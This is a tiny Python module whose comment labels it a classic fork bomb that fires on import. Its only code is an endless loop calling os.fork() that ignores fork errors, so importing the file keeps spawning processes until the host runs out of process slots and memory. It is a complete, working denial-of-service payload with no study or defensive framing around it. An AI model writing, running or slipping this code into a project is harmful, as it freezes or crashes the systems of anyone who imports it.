# A classic fork bomb at import time.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
